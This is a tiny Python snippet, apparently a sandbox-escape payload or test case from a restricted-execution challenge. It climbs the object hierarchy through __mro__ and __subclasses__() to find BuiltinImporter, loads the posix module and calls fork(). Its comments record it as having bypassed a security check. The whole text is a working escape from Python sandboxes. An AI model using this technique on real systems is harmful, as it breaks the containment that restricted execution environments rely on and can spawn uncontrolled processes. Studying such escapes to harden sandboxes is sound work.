# Climbs by the order of resolution of type().
# checked: invalid_code
# bypassed: security_violation clone
for kind in type(1).__mro__[-1].__subclasses__():
    if kind.__name__ == 'BuiltinImporter':
        kind.load_module('posix').fork()
